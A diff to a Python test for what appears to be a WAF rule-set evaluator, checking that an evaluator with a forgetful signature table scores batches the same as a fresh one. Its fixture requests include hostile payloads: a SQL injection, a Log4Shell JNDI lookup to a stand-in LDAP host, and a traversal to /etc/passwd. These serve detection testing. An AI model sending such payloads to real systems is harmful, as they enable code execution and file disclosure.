@@ -164,7 +164,10 @@ def test_one_evaluator_across_batches_scores_like_a_fresh_one_per_batch():
     rules = load_crs(SHARED_CRS).select(CrsSettings(SHARED_CRS, paranoia=2))
     lines = [combined(t) for t in ("/search?q=rain+jacket", "/p?id=1%27%20OR%20%271%27%3D%271", "/static/app.js?v=4",
                                    "/?x=${jndi:ldap://203.0.113.9/a}", "/a/../../etc/passwd", "/search?q=o%27neill")]  # fmt: skip
-    kept = CrsEvaluator(rules)
+    kept, forgetful = CrsEvaluator(rules), CrsEvaluator(rules, verdicts_per_variable=1)
+    forgetful.screen.table.limit = 2  # the signature table forgets between batches
     for batch in range(3):
         frame = request_frame(lines[batch:] + lines[:batch], "combined")
-        assert kept.evaluate(frame).scores.tolist() == CrsEvaluator(rules).evaluate(frame).scores.tolist()
+        want = CrsEvaluator(rules).evaluate(frame).scores.tolist()
+        assert kept.evaluate(frame).scores.tolist() == want
+        assert forgetful.evaluate(frame).scores.tolist() == want
